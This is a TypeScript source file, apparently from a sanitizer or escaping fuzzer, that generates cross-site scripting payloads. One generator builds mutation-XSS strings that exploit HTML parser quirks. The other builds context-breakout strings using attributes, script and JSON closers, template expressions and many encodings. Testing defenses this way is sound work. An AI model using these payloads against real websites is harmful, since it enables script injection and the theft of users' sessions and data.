import { pick } from '../../random.ts'
import { makeCode } from './code.ts'
import type { Shape } from './shape.ts'

/** What one parser reads as text and the next one, reading what the first has written, as an element. */
export const mutation: Shape = (random, id) => {
  const image = `<img src=x onerror=${makeCode(random, id).replaceAll(/[\s"'`>]/g, (sign) => `&#${sign.codePointAt(0)};`)}>`
  return pick(random, [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image.replaceAll('<', '&lt;')}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><style><a title="</style>${image}"></svg>`,
    `<math></p><style><!--</style>${image}--></style></math>`,
    `<noscript><p title="</noscript>${image}">`,
    `<textarea><a title="</textarea>${image}">`,
    `<title><a title="</title>${image}"></title>`,
    `<xmp><p title="</xmp>${image}">`,
    `<noembed><p title="</noembed>${image}">`,
    `<noframes><p title="</noframes>${image}">`,
    `<iframe><p title="</iframe>${image}">`,
    `<plaintext>${image}`,
    `<template><p>${image}</template>`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
    `<select><option><style></option></select>${image}</style>`,
    `<svg><foreignobject><p><style><!--</style></p>${image}--></foreignobject></svg>`,
    `<svg><desc><table><svg><title><p id="</title>${image}"></svg></table></desc></svg>`,
    `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="-->${image}">`,
    `<!-->${image}-->`,
    `<!--!>${image}<!-->`,
    `<!--x--!>${image}-->`,
    `<![CDATA[<a>]]>${image}`,
    `<svg><![CDATA[><img src=x>]]>${image}</svg>`,
    `<?xml version="1.0"?>${image}`,
    `<!DOCTYPE x [<!ENTITY y "${image.replaceAll('"', '')}">]>&y;`,
    `<table><tr><td><table><p>${image}`,
    `<a><table><a>${image}</table></a>`,
    `<p><b><i><u>${image}</p></b></u></i>`,
    `${'<div><svg><p>'.repeat(40)}${image}`,
    `<p id="`.repeat(7) + image,
  ])
}

/** What breaks out of a place that is not HTML text: an attribute, a script, JSON, XML, a template. */
export const breakout: Shape = (random, id) => {
  const code = makeCode(random, id)
  const inner = pick(random, [
    `<script>${code}</script>`,
    `<img src=x onerror="${code.replaceAll('"', '&quot;')}">`,
  ])
  return pick(random, [
    `">${inner}`,
    `'>${inner}`,
    `" autofocus tabindex=1 onfocus="${code}`,
    `' onmouseover='${code}`,
    `</script>${inner}`,
    `"}]}</script>${inner}`,
    `\\"}</script>${inner}`,
    `]]>${inner}<![CDATA[`,
    `--></style></title></textarea></noscript>${inner}`,
    inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    inner.replaceAll('<', '&amp;lt;'),
    encodeURIComponent(inner),
    encodeURIComponent(encodeURIComponent(inner)),
    [...inner]
      .map((letter) => `\\u${(letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`)
      .join(''),
    inner.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    inner.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    `\u2028${code}//${inner}`,
    `\`;${code}//`,
    `';${code}//`,
    `\${${code}}`,
    `{{constructor.constructor(${JSON.stringify(code)})()}}`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
    `\r\n\r\n${inner}`,
    `\u202e${inner}\u2066`,
  ])
}
